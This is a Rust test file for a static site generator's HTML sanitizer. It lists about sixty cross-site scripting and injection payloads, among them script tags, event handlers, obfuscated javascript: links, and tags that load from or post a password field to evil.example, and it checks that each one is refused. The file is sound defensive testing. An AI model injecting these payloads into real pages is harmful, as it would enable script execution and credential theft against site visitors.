//! HTML in texts: what may stand there, and that nothing else comes through.

use crate::site::Site;

/// What must not reach a reader, each as an author might come by it.
const REFUSED: [&str; 62] = [
    // What runs.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "a <script>b</script>",
    "<b onclick=\"alert(1)\">a</b>",
    "<b ONMOUSEOVER=alert(1)>a</b>",
    "<b/onclick=alert(1)>a</b>",
    "<img src=x onerror=alert(1)>",
    "a <img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">a</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<details ontoggle=alert(1) open><summary>a</summary></details>",
    "<marquee onstart=alert(1)>a</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<xss autofocus tabindex=1 onfocus=alert(1)></xss>",
    // Addresses that run.
    "<a href=\"javascript:alert(1)\">a</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">a</a>",
    "<a href=\"java\tscript:alert(1)\">a</a>",
    "<a href=\"&#106;avascript:alert(1)\">a</a>",
    "<a href=\"&#x6A&#x61vascript&colon;alert(1)\">a</a>",
    "<a href=\" javascript:alert(1)\">a</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">a</a>",
    "<a href=\"vbscript:x\">a</a>",
    "<blockquote cite=\"javascript:alert(1)\">a</blockquote>",
    // What asks other hosts.
    "<img src=\"https://evil.example/x.png\">",
    "<img srcset=\"https://evil.example/x.png 1x\" alt=a>",
    "<video src=\"https://evil.example/x.mp4\"></video>",
    "<video poster=\"https://evil.example/x.png\"></video>",
    "<audio><source src=\"https://evil.example/x.mp3\"></audio>",
    "<iframe src=\"https://evil.example/\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"https://evil.example/\"></object>",
    "<embed src=\"https://evil.example/\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<p style=\"background: url(https://evil.example/x.png)\">a</p>",
    "<table background=\"https://evil.example/x.png\"><tbody></tbody></table>",
    "<a href=\"#a\" ping=\"https://evil.example/\">a</a>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    // What asks for secrets.
    "<form action=\"https://evil.example/\"><input name=password></form>",
    "<button formaction=\"javascript:alert(1)\">a</button>",
    "<textarea>a</textarea>",
    "<select><option>a</option></select>",
    // What swallows the page, or breaks out of its place.
    "<div>\n\nnever ended",
    "a <b>never ended",
    "</article>",
    "</main>\n\na",
    "<!-- never ended\n\na",
    "<![CDATA[ a ]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html>",
    "<plaintext>",
    "<xmp><b></xmp>",
    "<table><b>a</b></table>",
    "*a <i>b* c</i>",
    "[a <a href=\"https://b.example\">b</a>](https://c.example)",
];

/// What looks like it and is nothing of the kind.
const HARMLESS: [&str; 8] = [
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```\n<script>alert(1)</script>\n```",
    "\\<script>alert(1)\\</script>",
    "< script>alert(1)< /script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "![<script>alert(1)</script>](x.svg)",
    "[a](#top \"<script>alert(1)</script>\")",
];

#[test]
fn what_could_do_harm_is_refused_where_it_stands() {
    let mut site = Site::new();
    for (number, html) in REFUSED.iter().enumerate() {
        site = site.with_post(
            &format!("posts/p{number:02}.md"),
            "",
            &format!("Text.\n\n{html}\n"),
        );
    }
    let report = site.report();
    for (number, html) in REFUSED.iter().enumerate() {
        let place = format!("posts/p{number:02}.md:8:");
        assert!(report.contains(&place), "{html} passes:\n{report}");
    }
}

#[test]
fn what_only_looks_like_it_is_shown() {
    for html in HARMLESS {
        let site = Site::new()
            .with("posts/x.svg", "<svg/>")
            .with_post("posts/a.md", "", html)
            .with_shell()
            .publish();
        let page = site.text("posts/a/index.html");
        let (_, article) = page.split_once("<article").unwrap();
        let (article, _) = article.split_once("</article>").unwrap();
        assert!(!article.contains("<script"), "{html}: {article}");
    }
}

#[test]
fn each_fault_is_told_with_the_way_out() {
    let site = Site::new().with_post(
        "posts/a.md",
        "",
        "> a <iframe src=\"x\"></iframe> <u style=\"y\">b</u>\n",
    );
    assert_eq!(
        site.report(),
        "posts/a.md:6:5: <iframe> may not stand in a text; link to what it would show, as in \
         [the film](https://example.org/), or let all HTML through by raw_html = \"any\" in site.toml\n  \
         6 | > a <iframe src=\"x\"></iframe> <u style=\"y\">b</u>\n    |     ^^^^^^^^^^^^^^^^\n\n\
         posts/a.md:6:34: style=\"…\" may not stand in a text; give the element a class, and that a \
         style in style/, or let all HTML through by raw_html = \"any\" in site.toml\n  \
         6 | > a <iframe src=\"x\"></iframe> <u style=\"y\">b</u>\n    |                                  ^^^^^^^^^\n\n\
         2 faults in 1 file; nothing was written"
    );
}

#[test]
fn an_author_may_answer_for_all_of_it() {
    let site = Site::new()
        .with_settings("raw_html = \"any\"")
        .with_post(
            "posts/a.md",
            "",
            "<iframe src=\"/x/\" title=\"x\"></iframe>\n",
        )
        .with_shell()
        .publish();
    let page = site.text("posts/a/index.html");
    assert!(page.contains("<iframe src=\"/x/\""), "{page}");
    // Nobody knows what it needs.
    assert!(!page.contains("Content-Security-Policy"), "{page}");
    assert!(!site.text("_headers").contains("Content-Security-Policy"));
}
